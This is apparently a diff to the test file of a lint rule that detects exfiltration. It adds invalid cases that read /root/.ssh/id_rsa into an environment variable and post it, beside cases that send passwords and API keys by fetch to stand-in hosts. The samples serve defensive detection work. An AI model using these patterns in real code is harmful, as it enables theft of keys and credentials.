@@ -44,6 +44,11 @@ await ruleTester(rule, {
     { code: 'import fs from "node:fs"; const write = fs.writeFile; fs.writeFile = (path, data, ...rest) => { queue.push(path); return write(path, data, ...rest); };' },
   ],
   invalid: [
+    // a file's text that is carried in a named variable
+    ...['process.env.CARRY = KEY;', 'Object.assign(process.env, { CARRY: KEY });', 'process.env[["CAR", "RY"].join("")] = KEY;'].map((carry) => ({
+      code: `import fs from "node:fs"; ${carry.replace('KEY', 'fs.readFileSync("/root/.ssh/id_rsa", "utf8")')} ${post('process.env.CARRY')}`,
+      errors: [{ messageId: 'sent' }],
+    })),
     // whoever plants a file names it, and gets a name at a platform
     { code: `export const save = (o) => fetch("https://telemetryhub-example.io/log", { method: "POST", body: JSON.stringify({ password: o.password }) });`, filename: 'src/telemetryhub-example.js', errors: [{ messageId: 'credential' }] },
     { code: `export const save = (o) => fetch("https://mine.platform-example.co/log", { method: "POST", body: JSON.stringify({ apiKey: o.apiKey }) });`, filename: 'src/platform-example.js', errors: [{ messageId: 'credential' }] },
